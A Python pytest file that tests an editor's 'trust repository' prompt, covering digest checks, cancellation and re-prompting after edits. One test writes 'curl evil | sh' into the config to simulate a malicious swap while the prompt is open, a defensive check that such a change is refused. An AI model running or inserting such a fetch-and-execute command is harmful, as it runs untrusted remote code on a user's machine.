"""Trusting a repository's own commands from the editor (`wishcraft.trustRepository`), under both
client profiles, with the trust store in a temporary user folder (`XDG_CONFIG_HOME`).

The question quotes the command that trust lets run and the file's digest; only "Trust" records
anything, and only for the file the user was asked about: a wishcraft.toml changed while the
question is open is not trusted. What the editor records is what `wishcraft trust` records (the
CLI then sees the repository as trusted).
"""

from __future__ import annotations

import asyncio
import hashlib
import os
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest
import pytest_asyncio
from lsprotocol import types

from testkit.lsp_client import PROFILES, WishClient
from testkit.lsp_planning import start_client, supports_show_document
from wishcraft.names import COMMAND_TRUST_REPOSITORY
from wishcraft.trust import Trust, trust_of

pytestmark = pytest.mark.asyncio(loop_scope="function")

CHECK = "python3 -m pytest -q"
CONFIG = f'[pr]\ncheck = "{CHECK}"\n'


@pytest_asyncio.fixture(params=list(PROFILES))
async def client(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[WishClient]:
    root = tmp_path / "thermo"
    (root / "data" / "config").mkdir(parents=True)
    (root / "data" / "config" / "wishcraft.toml").write_text(CONFIG)
    env = {
        **os.environ,
        "CODEX_HOME": str(tmp_path / "no-login"),
        "XDG_CONFIG_HOME": str(tmp_path / "user-config"),
    }
    client = await start_client(request.param, root, env)
    yield client
    await client.shutdown_session()


def answer_with(
    client: WishClient, title: str | None, before: Callable[[], object] | None = None
) -> list[types.ShowMessageRequestParams]:
    """Answer every `window/showMessageRequest` with the action `title` (None: dismissed),
    after running `before` (what happens while the question is open); the questions asked."""
    asked: list[types.ShowMessageRequestParams] = []

    def ask(params: types.ShowMessageRequestParams) -> types.MessageActionItem | None:
        asked.append(params)
        if before is not None:
            before()
        return None if title is None else types.MessageActionItem(title=title)

    client.feature(types.WINDOW_SHOW_MESSAGE_REQUEST)(ask)

    return asked


async def trust_command(client: WishClient) -> dict[str, object]:
    result = await client.workspace_execute_command_async(
        types.ExecuteCommandParams(command=COMMAND_TRUST_REPOSITORY, arguments=[])
    )
    assert isinstance(result, dict), result
    return result


def user_env(client: WishClient, tmp_path: Path) -> dict[str, str]:
    """The environment that names the test's trust store (the server's own)."""
    return {"XDG_CONFIG_HOME": str(tmp_path / "user-config")}


async def test_trust_asks_quoting_the_command_and_records_the_file(
    client: WishClient, tmp_path: Path
) -> None:
    asked = answer_with(client, "Trust")
    result = await trust_command(client)
    assert result["outcome"] == "trusted", result
    (question,) = asked
    digest = hashlib.sha256(CONFIG.encode()).hexdigest()
    assert f"`{CHECK}`" in question.message and digest[:12] in question.message
    assert [action.title for action in question.actions or []] == [
        "Trust",
        "Open wishcraft.toml",
        "Cancel",
    ]
    assert str(client.root) not in question.message  # no absolute path
    assert result["sha256"] == digest
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.TRUSTED


@pytest.mark.parametrize("title", ["Cancel", None])
async def test_cancel_or_dismiss_trusts_nothing(
    client: WishClient, tmp_path: Path, title: str | None
) -> None:
    answer_with(client, title)
    result = await trust_command(client)
    assert result["outcome"] == "cancelled"
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.UNTRUSTED


async def test_a_file_changed_while_asked_is_not_trusted(
    client: WishClient, tmp_path: Path
) -> None:
    """The question showed one command; the file now runs another: nothing is recorded, and
    the user is told in one sentence."""
    config = client.root / "data" / "config" / "wishcraft.toml"
    answer_with(
        client, "Trust", before=lambda: config.write_text('[pr]\ncheck = "curl evil | sh"\n')
    )
    result = await trust_command(client)
    assert result["outcome"] == "failed"
    assert "changed while you were asked" in str(result["message"])
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.UNTRUSTED


async def test_open_shows_the_file_and_trusts_nothing(client: WishClient, tmp_path: Path) -> None:
    answer_with(client, "Open wishcraft.toml")
    result = await trust_command(client)
    assert result["outcome"] == "opened"
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.UNTRUSTED
    config_uri = (client.root / "data" / "config" / "wishcraft.toml").as_uri()
    if supports_show_document(client):
        assert client.shown_documents[-1].uri == config_uri
    else:
        assert any("Read data/config/wishcraft.toml" in m.message for m in client.messages)


async def test_trusted_already_asks_nothing_and_a_change_asks_again(
    client: WishClient, tmp_path: Path
) -> None:
    asked = answer_with(client, "Trust")
    await trust_command(client)
    again = await trust_command(client)
    assert again["outcome"] == "trusted" and len(asked) == 1
    config = client.root / "data" / "config" / "wishcraft.toml"
    await asyncio.to_thread(config.write_text, CONFIG + "# edited\n")
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.CHANGED
    result = await trust_command(client)
    assert result["outcome"] == "trusted" and len(asked) == 2
    assert "changed since you last trusted it" in asked[-1].message
    assert trust_of(client.root, user_env(client, tmp_path)) is Trust.TRUSTED
